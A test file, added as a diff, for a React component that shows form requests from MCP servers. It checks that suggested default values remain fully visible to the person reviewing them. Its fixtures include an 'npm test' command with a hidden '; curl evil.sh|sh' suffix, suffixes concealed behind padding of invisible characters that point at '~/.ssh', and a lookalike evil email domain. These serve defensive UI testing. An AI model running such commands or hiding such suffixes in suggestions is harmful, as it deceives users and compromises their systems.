@@ -1,0 +1,75 @@
+import { render, screen, waitFor } from '@testing-library/react';
+import { afterAll, describe, expect, test } from 'vitest';
+import { page, userEvent } from 'vitest/browser';
+import { Elicitation } from 'react-mcp-elicitation';
+import 'react-mcp-elicitation/styles.css';
+import { ask } from '../../ask.ts';
+import { disableConsentGuard } from 'react-mcp-elicitation/testing';
+import '../../setup.rules.ts';
+
+afterAll(disableConsentGuard());
+
+const evil = 'ada.lovelace@example.com.internal-mail-relay.evil.example';
+const script = `npm test # ${'runs the unit tests, and nothing else as usual '.repeat(3)}; curl evil.sh|sh`;
+
+async function draw(property: object, presentation: 'inline' | 'dialog' = 'inline') {
+  await page.viewport(360, 740);
+  const answers: unknown[] = [];
+  render(
+    <Elicitation
+      request={ask({ it: property })}
+      server={{ name: 'Example' }}
+      presentation={presentation}
+      onRespond={(result) => void answers.push('content' in result && result.content)}
+    />,
+  );
+  return answers;
+}
+
+const isWholeInSight = (control: HTMLElement) =>
+  control.scrollWidth <= control.clientWidth + 1 &&
+  control.scrollHeight <= control.clientHeight + 1;
+
+describe('TRUST-4 the end of what a server suggests is in sight', () => {
+  test.each([
+    ['an address', { type: 'string', format: 'email', default: evil }, 'inline'],
+    ['an address', { type: 'string', format: 'email', default: evil }, 'dialog'],
+    ['a command of limited length', { type: 'string', maxLength: 200, default: script }, 'inline'],
+    ['a long text', { type: 'string', default: `${script}\n${script}` }, 'inline'],
+    [
+      'a text with gaps',
+      { type: 'string', default: `~/project${'\u2800'.repeat(60)} ~/.ssh` },
+      'inline',
+    ],
+    [
+      'a text with wide gaps',
+      { type: 'string', default: `~/project${'\u2003'.repeat(15)} ~/.ssh` },
+      'inline',
+    ],
+    [
+      'a text with empty lines',
+      { type: 'string', default: `Fix a typo${'\n\u2800'.repeat(40)}\n; curl evil.sh` },
+      'inline',
+    ],
+    ['a row of a list', { type: 'array', items: { type: 'string' }, default: [script] }, 'inline'],
+  ] as const)('%s', async (_, property, presentation) => {
+    const answers = await draw(property, presentation);
+    await waitFor(() => expect(screen.getByRole('textbox')).toSatisfy(isWholeInSight));
+    await userEvent.click(screen.getByRole('button', { name: 'Accept' }));
+    await waitFor(() => expect(answers).toEqual([{ it: property.default }]));
+  });
+});
+
+test('FORM-2 a text that a person types keeps its single line', async () => {
+  await draw({ type: 'string' });
+  await userEvent.fill(screen.getByRole('textbox'), script);
+  expect(screen.getByRole('textbox').tagName).toBe('INPUT');
+});
+
+test('FORM-12 a suggestion that has several lines can be edited', async () => {
+  const answers = await draw({ type: 'string', format: 'email', default: evil });
+  await waitFor(() => expect(screen.getByRole('textbox').tagName).toBe('TEXTAREA'));
+  await userEvent.fill(screen.getByRole('textbox'), 'ada@example.com');
+  await userEvent.click(screen.getByRole('button', { name: 'Accept' }));
+  await waitFor(() => expect(answers).toEqual([{ it: 'ada@example.com' }]));
+});
